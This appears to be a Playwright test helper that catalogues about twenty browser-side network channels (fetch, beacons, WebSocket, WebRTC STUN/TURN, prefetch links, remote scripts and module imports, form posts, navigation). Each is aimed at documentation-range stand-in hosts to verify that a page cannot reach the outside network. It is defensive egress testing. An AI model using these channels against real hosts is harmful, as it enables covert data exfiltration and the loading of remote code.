import type { Page } from '@playwright/test';

/** What somebody tries on a page to get a word out: each with the number that its addresses end with. */
type Act = (at: { ip: string; name: string }) => void;

/** Run in the page, where nothing from outside these functions is; none waits for an answer that never comes. */
export const hostileActs: Record<string, Act> = {
  fetch: ({ ip }) => {
    fetch(`http://${ip}/`, { mode: 'no-cors' }).catch(() => null);
  },
  'fetch by name': ({ name }) => {
    fetch(`https://${name}/`, { mode: 'no-cors' }).catch(() => null);
  },
  request: ({ ip }) => {
    const request = new XMLHttpRequest();
    request.open('GET', `http://${ip}/`);
    request.send();
  },
  beacon: ({ ip }) => void navigator.sendBeacon(`http://${ip}/`, 'much'),
  image: ({ ip }) => {
    new Image().src = `http://${ip}/x.png`;
  },
  socket: ({ ip }) => void new WebSocket(`ws://${ip}/`),
  events: ({ ip }) => void new EventSource(`http://${ip}/`),
  'call by STUN': ({ ip }) => {
    const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:${ip}:3478` }] });
    call.createDataChannel('x');
    void call.createOffer().then((offer) => call.setLocalDescription(offer));
  },
  'call by TURN': ({ ip }) => {
    const urls = [`turn:${ip}:3478?transport=tcp`, `turn:${ip}:3478`];
    const call = new RTCPeerConnection({ iceServers: [{ urls, username: 'x', credential: 'y' }] });
    call.createDataChannel('x');
    void call.createOffer().then((offer) => call.setLocalDescription(offer));
  },
  preconnect: ({ ip }) => {
    const link = Object.assign(document.createElement('link'), { rel: 'preconnect' });
    link.href = `http://${ip}:7000/`;
    document.head.append(link);
  },
  prefetch: ({ ip }) => {
    const link = Object.assign(document.createElement('link'), { rel: 'prefetch' });
    link.href = `http://${ip}/next.html`;
    document.head.append(link);
  },
  'name looked up beforehand': ({ name }) => {
    const link = Object.assign(document.createElement('link'), { rel: 'dns-prefetch' });
    link.href = `http://${name}/`;
    document.head.append(link);
  },
  'style sheet': ({ ip }) => {
    const link = Object.assign(document.createElement('link'), { rel: 'stylesheet' });
    link.href = `http://${ip}/x.css`;
    document.head.append(link);
  },
  'picture of a style': ({ ip }) => {
    document.body.style.setProperty('background-image', `url(http://${ip}/x.png)`);
  },
  font: ({ ip }) => {
    new FontFace('x', `url(http://${ip}/x.woff2)`).load().catch(() => null);
  },
  film: ({ ip }) => {
    const film = Object.assign(document.createElement('video'), { preload: 'auto' });
    film.src = `http://${ip}/x.mp4`;
    document.body.append(film);
  },
  script: ({ ip }) => {
    const script = document.createElement('script');
    script.src = `http://${ip}/x.js`;
    document.head.append(script);
  },
  module: ({ ip }) => {
    import(`http://${ip}/x.js`).catch(() => null);
  },
  frame: ({ ip }) => {
    const frame = document.createElement('iframe');
    frame.src = `http://${ip}/`;
    document.body.append(frame);
  },
  form: ({ ip }) => {
    const frame = Object.assign(document.createElement('iframe'), { name: 'form-target' });
    const form = Object.assign(document.createElement('form'), { action: `http://${ip}/` });
    Object.assign(form, { method: 'post', target: 'form-target' });
    document.body.append(frame, form);
    form.submit();
  },
  window: ({ ip }) => void window.open(`http://${ip}/`),
  // The last: where nothing holds it, the page is gone.
  navigation: ({ ip }) => location.assign(`http://${ip}/`),
};

/** The addresses of an act, from ranges that are nobody's: what a packet has to do with it is seen by them. */
export function addressesOf(act: string): { ip: string; name: string } {
  const number = Object.keys(hostileActs).indexOf(act) + 1;
  return { ip: `198.51.100.${number}`, name: `hostile-${number}.example.com` };
}

/** Does one of them in a page. One that the page refuses at once has said nothing either. */
export async function doHostileAct(page: Page, act: string): Promise<void> {
  const run = hostileActs[act];
  if (run) await page.evaluate(run, addressesOf(act)).catch(() => undefined);
}

/** Which acts a packet came of. */
export function actsSeenIn(packets: readonly string[]): string[] {
  return Object.keys(hostileActs).filter((act) => {
    const { ip, name } = addressesOf(act);
    return packets.some((line) => line.includes(` ${ip}.`) || line.includes(`${name}.`));
  });
}
